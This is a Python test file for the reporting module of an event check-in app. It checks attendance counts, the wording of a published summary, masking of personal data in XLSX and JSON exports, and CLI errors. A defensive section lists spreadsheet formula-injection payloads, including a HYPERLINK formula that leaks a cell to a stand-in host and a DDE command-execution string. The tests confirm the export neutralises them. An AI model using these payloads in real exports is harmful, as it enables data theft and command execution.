"""The office's dashboard and report: counts from the log, the XLSX read back, the summary text."""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from checkin_app import checkin, demo, events, leaders, logistics, reports, roles
from checkin_app.checkin import Desk, WalkIn
from checkin_app.cli import main
from checkin_app.db import Database
from checkin_app.models import (
    Activity,
    LogEvent,
    LogKind,
    Participant,
    SeatAssignment,
    Station,
    Status,
)

EVENT = "晋城市城市管理局2024年政府开放周"
# The demo's open week held on the plan's days (the demo itself is held from today).
OPEN_WEEK = dt.date(2024, 6, 18)
# 08:40 in Jincheng (UTC+8) on each activity's day, within the sign-in window.
TIMES = {
    "亲民城管": dt.datetime(2024, 6, 18, 0, 40),
    "智慧城管": dt.datetime(2024, 6, 19, 1, 5),
    "绿色城管": dt.datetime(2024, 6, 20, 0, 40),
}
WALK_IN_ID = "140502198803150019"  # 晋城 城区, born 1988, passes the check digit


@dataclass(frozen=True)
class Day:
    """The demo open week after its three days: who came, who did not, a walk-in, a conflict."""

    db: Database
    event_id: int
    activities: dict[str, int]
    came: dict[str, list[int]]
    absent: dict[str, list[int]]
    walk_in: int


def _confirmed(db: Database, activity_id: int) -> list[int]:
    with db.reading() as s:
        return list(
            s.scalars(
                select(Participant.id)
                .where(
                    Participant.activity_id == activity_id, Participant.status == Status.CONFIRMED
                )
                .order_by(Participant.id)
            )
        )


def build_day(db: Database) -> Day:
    """Check in most confirmed people of each activity at two stations, one walk-in, one undo,
    and a second station's check-in of someone already in (a conflict, as after a merge)."""
    with db.transaction() as s:
        demo.ensure_demo(s, today=OPEN_WEEK)
        event = events.find_event(s, EVENT)
        ids = {a.name: a.id for a in event.activities}
        logistics.plan_activity(s, events.find_activity(s, event, "绿色城管"))
        event_id = event.id
        pin = roles.attempt(s, demo.DEMO_SUPERVISOR_PIN).grant
    came: dict[str, list[int]] = {}
    absent: dict[str, list[int]] = {}
    for name, activity_id in ids.items():
        people = _confirmed(db, activity_id)
        came[name], absent[name] = people[:-2], people[-2:]
        for n, pid in enumerate(came[name]):
            station = "东门" if n % 2 else "西门"
            at = TIMES[name] + dt.timedelta(minutes=n)
            with db.transaction() as s:
                result = checkin.admit(s, Desk(activity_id, station, "小王"), pid, now=at)
                assert result.admitted, result.detail
    green = ids["绿色城管"]
    with db.transaction() as s:
        # An undo: the last of 绿色城管 was checked in by mistake; they count as absent.
        undone = came["绿色城管"].pop()
        absent["绿色城管"].append(undone)
        where = checkin.admission_of(s, green, undone)
        assert where is not None
        checkin.undo(s, Desk(green, where.station, "小王"), undone, reason="扫错人", supervisor=pin)
        walked = checkin.walk_in(
            s,
            Desk(green, "西门", "小王"),
            WalkIn("现场甲", WALK_IN_ID, phone="13912345678", category="市民代表"),
            reason="现场报名",
            over_capacity=True,
            supervisor=pin,
        )
        assert walked.person is not None
        # The same person admitted at another station too: what a merge brings in.
        first = came["智慧城管"][0]
        p = s.get(Participant, first)
        assert p is not None
        checkin.append(
            s, event_id=event_id, station="北门", kind=LogKind.CHECKIN, operator="小李",
            activity_id=ids["智慧城管"], participant_id=first, person=p.doc_hash,
            verdict="admitted", at=TIMES["智慧城管"] + dt.timedelta(minutes=30),
        )  # fmt: skip
        # 东门 is registered once its log is in (here written as the office, in a real
        # workspace merged from its bundle): from then on the office cannot record in its name.
        s.add(Station(event_id=event_id, name="东门", public_key=b"k" * 32, merged_seq=12,
                      last_sync_at=dt.datetime(2024, 6, 20, 1, 30)))  # fmt: skip
    return Day(db, event_id, ids, came, absent, walked.person.id)


@pytest.fixture
def day(db: Database) -> Day:
    return build_day(db)


def test_dashboard_counts_come_from_the_log(day: Day) -> None:
    with day.db.reading() as s:
        board = reports.dashboard(s, day.event_id)
    by_name = {a.name: a for a in board.activities}
    for name in day.activities:
        a = by_name[name]
        walk = 1 if name == "绿色城管" else 0
        assert a.attended == len(day.came[name]) + walk
        assert a.no_shows == len(day.absent[name])
        assert a.walk_ins == walk
    t = board.totals
    assert t.attended == sum(len(v) for v in day.came.values()) + 1
    assert t.no_shows == sum(len(v) for v in day.absent.values())
    assert t.walk_ins == 1
    assert sum(c.attended for c in board.categories) == t.attended
    assert sum(c.no_shows for c in board.categories) == t.no_shows
    # The walk-in was over capacity and is counted where they are, not as confirmed-and-absent.
    assert by_name["绿色城管"].sites == (
        "泽州县垃圾分类宣教中心",
        "餐厨垃圾处理公司",
        "生活垃圾焚烧发电厂",
    )
    buses = [v for v in board.vehicles if v.activity == "绿色城管"]
    assert sum(v.arrived for v in buses) == by_name["绿色城管"].attended
    assert sum(v.missing for v in buses) == by_name["绿色城管"].no_shows
    curve = next(c for c in board.arrivals if c.activity == "亲民城管")
    assert curve.points[0] == (dt.datetime(2024, 6, 18, 8, 40), 1)
    assert curve.points[-1][1] == len(day.came["亲民城管"])
    stations = {st.name: st for st in board.stations}
    assert set(stations) == {"东门", "西门", "北门"}
    assert stations["东门"].merged_seq == 12
    assert stations["东门"].last_sync_at == dt.datetime(2024, 6, 20, 9, 30)
    assert stations["北门"].events == 1 and stations["北门"].last_sync_at is None
    assert t.conflicts == t.open_conflicts == 1
    assert board.conflicts[0].kind == "重复签到" and "北门" in board.conflicts[0].stations


def test_summary_text_for_publication(day: Day) -> None:
    with day.db.reading() as s:
        board = reports.dashboard(s, day.event_id)
    text = reports.summary_text(board)
    # The organiser named once, the event's own name not quoted again, the activities quoted
    # with no 顿号 between them: as an editor writes for publication.
    assert text.startswith(
        "2024年6月18日、19日、20日，晋城市城市管理局举办2024年政府开放周，"
        "开展“亲民城管”“智慧城管”“绿色城管”3项活动。"
    )
    assert f"共有{board.totals.attended}人参加" in text
    assert "含现场登记1人" in text
    for c in board.categories:
        assert f"{c.category}{c.attended}人" in text
    # No leader took a roll call at any site: the plan is stated, the visits are not claimed.
    assert "行程安排观摩" in text and "共6个点位" in text and "实际观摩情况请核实" in text
    assert "实地观摩了" not in text


def test_summary_says_which_planned_sites_the_roll_calls_show_were_visited(day: Day) -> None:
    green = day.activities["绿色城管"]
    with day.db.transaction() as s:
        act = s.get(Activity, green)
        assert act is not None
        first, second, _ = (stop.site_id for stop in act.stops)
        seat = s.scalars(
            select(SeatAssignment).where(SeatAssignment.participant_id == day.came["绿色城管"][0])
        ).one()
        assert seat.group_id is not None
        for site in (first, second):
            leaders.tick(
                s, seat.group_id, seat.participant_id, site, present=True, at=TIMES["绿色城管"]
            )
    with day.db.reading() as s:
        board = reports.dashboard(s, day.event_id)
    (row,) = [a for a in board.activities if a.name == "绿色城管"]
    assert row.visited == ("泽州县垃圾分类宣教中心", "餐厨垃圾处理公司")
    text = reports.summary_text(board)
    assert "行程安排观摩" in text and "共6个点位" in text
    assert "实际观摩了泽州县垃圾分类宣教中心、餐厨垃圾处理公司共2个点位" in text
    assert "生活垃圾焚烧发电厂" in text.split("实际观摩了")[1].split("没有点名记录")[0]
    # Roll calls at every planned site: the visits are stated as done.
    everywhere = dataclasses.replace(
        board, activities=tuple(dataclasses.replace(a, visited=a.sites) for a in board.activities)
    )
    text = reports.summary_text(everywhere)
    assert "参加人员按行程实地观摩了" in text and "共6个点位" in text and "核实" not in text


def test_summary_text_never_nests_quotation_marks(day: Day) -> None:
    with day.db.reading() as s:
        board = reports.dashboard(s, day.event_id)
    guyuan = dataclasses.replace(
        board, event="固原市城市管理局2025年“政府开放日”", organiser="固原市城市管理局"
    )
    text = reports.summary_text(guyuan)
    assert "，固原市城市管理局举办2025年“政府开放日”，开展" in text
    assert text.count("固原市城市管理局") == 1
    # Quotes inside an activity's name become the inner pair; other organisers keep the name.
    held = tuple(dataclasses.replace(a, name=f"“{a.name}”专场") for a in board.activities)
    other = dataclasses.replace(board, activities=held, organiser="晋城市人民政府")
    text = reports.summary_text(other)
    assert "晋城市人民政府举办晋城市城市管理局2024年政府开放周" in text
    assert "“‘亲民城管’专场”“‘智慧城管’专场”" in text
    assert "““" not in text and "””" not in text
    empty = dataclasses.replace(guyuan, activities=())
    assert reports.summary_text(empty) == "“固原市城市管理局2025年‘政府开放日’”尚未安排活动项目。"


def test_date_span() -> None:
    assert reports.date_span([dt.date(2025, 9, 24)]) == "2025年9月24日"
    assert (
        reports.date_span([dt.date(2024, 7, 1), dt.date(2024, 6, 30), dt.date(2025, 1, 2)])
        == "2024年6月30日、7月1日、2025年1月2日"
    )


def _sheet(book: object, title: str) -> list[tuple[object, ...]]:
    return [tuple(row) for row in book[title].iter_rows(values_only=True)]  # type: ignore[index]


def test_xlsx_has_every_sheet_and_masks_personal_data(day: Day, tmp_path: Path) -> None:
    out = tmp_path / "报告.xlsx"
    with day.db.reading() as s:
        info = reports.export_report(s, day.event_id, out)
        people = {p.id: p for p in s.scalars(select(Participant))}
    book = load_workbook(out)
    assert book.sheetnames == [
        "活动开展情况", "汇总", "按活动", "按类别", "按车辆", "实到人员", "未到人员", "现场登记",
        "冲突",
    ]  # fmt: skip
    assert book["活动开展情况"]["A3"].value == info.summary
    summary = dict(_sheet(book, "汇总")[1:])
    assert summary["实到人数"] == info.attended
    assert summary["应到人数"] == info.attended + info.no_shows
    assert summary["未到人数"] == info.no_shows == sum(len(v) for v in day.absent.values())
    activities = _sheet(book, "按活动")
    assert activities[0][:6] == ("活动项目", "日期", "名额", "确认参加", "应到", "实到")
    assert [r[0] for r in activities[1:]] == ["亲民城管", "智慧城管", "绿色城管"]
    no_shows = _sheet(book, "未到人员")[1:]
    assert sorted(r[1] for r in no_shows) == sorted(
        people[pid].name for v in day.absent.values() for pid in v
    )
    walk_ins = _sheet(book, "现场登记")[1:]
    assert [(r[1], r[2], r[3]) for r in walk_ins] == [
        ("现场甲", "1405**********0019", "139****5678")
    ]
    conflicts = _sheet(book, "冲突")[1:]
    assert len(conflicts) == 1 and conflicts[0][0] == "重复签到" and conflicts[0][3] == "待处理"
    # No clear phone or document hash anywhere in the workbook.
    cells = " ".join(
        str(v) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for v in row
    )
    for p in people.values():
        assert p.doc_hash not in cells
        if p.phone:
            assert p.phone not in cells
    assert WALK_IN_ID not in cells and not re.search(r"1[3-9]\d{9}", cells)


def test_cli_report_json(day: Day, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "r.xlsx"
    url = day.db.url
    assert main(["report", "--event", EVENT, "--xlsx", str(out), "--db", url, "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["file"] == str(out) and data["walk_ins"] == 1 and data["conflicts"] == 1
    assert out.exists()
    assert main(["report", "--event", EVENT, "--xlsx", str(out), "--db", url]) == 0
    printed = capsys.readouterr().out
    assert "实到" in printed and "活动开展情况" in printed
    expected = data["attended"] + data["no_shows"]
    assert f"应到 {expected} 人，实到 {data['attended']} 人" in printed
    assert set(data) == {
        "event", "file", "attended", "no_shows", "walk_ins", "conflicts", "summary", "attendees"
    }  # fmt: skip


def _came(day: Day) -> list[int]:
    """Who is in: everyone admitted (the undone one was moved to `absent`), and the walk-in."""
    return [pid for v in day.came.values() for pid in v] + [day.walk_in]


def test_xlsx_lists_who_attended_masked(day: Day, tmp_path: Path) -> None:
    out = tmp_path / "报告.xlsx"
    with day.db.reading() as s:
        info = reports.export_report(s, day.event_id, out)
        people = {p.id: p for p in s.scalars(select(Participant))}
    rows = _sheet(load_workbook(out), "实到人员")
    assert rows[0] == (
        "活动项目", "姓名", "证件号", "联系电话", "类别", "车辆", "座位", "分组", "入场方式",
        "签到点", "时间",
    )  # fmt: skip
    came = _came(day)
    # The same people the 实到 count counts: one row each, the twice-admitted one included once.
    assert len(rows) - 1 == info.attended == len(came)
    assert sorted(r[1] for r in rows[1:]) == sorted(people[pid].name for pid in came)
    walk_in = next(r for r in rows[1:] if r[1] == "现场甲")
    assert walk_in[2:4] == ("1405**********0019", "139****5678")
    assert walk_in[8:10] == ("现场登记", "西门")
    green = [r for r in rows[1:] if r[0] == "绿色城管"]
    assert all(r[5] for r in green if r[1] != "现场甲")  # planned: each has a bus
    undone = people[day.absent["绿色城管"][-1]].name
    assert undone not in {r[1] for r in rows[1:]}  # an undo takes them off the list
    for r in rows[1:]:
        assert re.fullmatch(r"\d{4}\*{10}[\dX]{4}", str(r[2])), r


def test_report_json_lists_attendees(
    day: Day, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "r.xlsx"
    assert main(["report", "--event", EVENT, "--xlsx", str(out), "--db", day.db.url, "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert len(data["attendees"]) == data["attended"] == len(_came(day))
    first = data["attendees"][0]
    assert set(first) == {
        "activity", "name", "masked_id", "phone_masked", "category", "bus", "seat", "group",
        "how", "station", "at",
    }  # fmt: skip
    text = json.dumps(data, ensure_ascii=False)
    assert WALK_IN_ID not in text and "13912345678" not in text


def test_report_cells_stay_text(day: Day, tmp_path: Path) -> None:
    """A name typed as a formula is written as text, never run by the spreadsheet."""
    pid = day.came["亲民城管"][0]
    with day.db.transaction() as s:
        p = s.get(Participant, pid)
        assert p is not None
        p.name = '=HYPERLINK("http://x.invalid","点我")'
    out = tmp_path / "r.xlsx"
    with day.db.reading() as s:
        reports.export_report(s, day.event_id, out)
    sheet = load_workbook(out)["实到人员"]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == p.name)
    assert cell.data_type == "s"


def test_cli_report_refuses_bad_input(
    day: Day, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = day.db.url
    assert (
        main(["report", "--event", "不存在", "--xlsx", str(tmp_path / "x.xlsx"), "--db", url]) == 2
    )
    assert "错误：找不到活动“不存在”" in capsys.readouterr().err
    blocker = tmp_path / "file"
    blocker.write_text("x")
    bad = blocker / "r.xlsx"  # a directory that is a file
    assert main(["report", "--event", EVENT, "--xlsx", str(bad), "--db", url, "--json"]) == 2
    captured = capsys.readouterr()
    assert "无法写出报告文件" in json.loads(captured.out)["error"]
    assert "错误：无法写出报告文件" in captured.err


def test_report_of_an_event_with_no_checkins(db: Database, tmp_path: Path) -> None:
    with db.transaction() as s:
        demo.ensure_demo(s, today=OPEN_WEEK)
        event_id = events.find_event(s, EVENT).id
    with db.reading() as s:
        info = reports.export_report(s, event_id, tmp_path / "empty.xlsx")
    assert info.attended == 0 and "尚无签到记录" in info.summary


# --- Names from the public are never formulas ----------------------------------------------------

# What a registrant or a forged bundle could put in a name, a category, a station, an operator or
# a reason: a link that leaks the next cell, DDE, and each other start that makes a formula.
HOSTILE = (
    '=HYPERLINK("http://x"&B2,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "\t=1+1",
    "#N/A",
)


FORMULA_STARTS = ("=", "+", "-", "@", "\t")


def _make_hostile(day: Day) -> None:
    with day.db.transaction() as s:
        absent = [pid for v in day.absent.values() for pid in v]
        for n, pid in enumerate([*absent, day.walk_in]):
            p = s.get(Participant, pid)
            assert p is not None
            p.name = HOSTILE[n % len(HOSTILE)]
            # A control character too: openpyxl refuses to write it (IllegalCharacterError).
            p.category = HOSTILE[(n + 1) % len(HOSTILE)] + "\x01"
        walk_in = s.scalars(select(LogEvent).where(LogEvent.kind == LogKind.WALKIN)).one()
        walk_in.station, walk_in.operator, walk_in.reason = HOSTILE[1], HOSTILE[0], HOSTILE[4]


def _formulas_in_xml(path: Path) -> dict[str, int]:
    """`<f>` elements per worksheet part, read from the file's bytes."""
    with zipfile.ZipFile(path) as archive:
        return {
            name: len(re.findall(rb"<(?:\w+:)?f[ >/]", archive.read(name)))
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        }


def test_no_cell_of_the_report_is_a_formula(day: Day, tmp_path: Path) -> None:
    _make_hostile(day)
    out = tmp_path / "报告.xlsx"
    url = day.db.url
    assert main(["report", "--event", EVENT, "--xlsx", str(out), "--db", url, "--json"]) == 0
    assert set(_formulas_in_xml(out).values()) == {0}
    book = load_workbook(out)
    found: dict[str, set[str]] = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    column = str(ws.cell(1, cell.column).value)
                    found.setdefault(ws.title, set()).add(column)
                if isinstance(cell.value, str):
                    assert "\x01" not in cell.value
    assert found["未到人员"] >= {"姓名", "类别"}
    assert found["按类别"] == {"类别"}
    assert found["现场登记"] >= {"姓名", "类别", "签到点", "操作人", "原因"}
    no_shows = [r[1] for r in _sheet(book, "未到人员")[1:]]
    assert set(no_shows) <= set(HOSTILE) and '=HYPERLINK("http://x"&B2,"点我")' in no_shows
    assert "#N/A" in no_shows  # text, not Excel's error value
    # Counts stay numbers.
    summary = book["汇总"]
    assert summary["B6"].data_type == "n" and isinstance(summary["B6"].value, int)
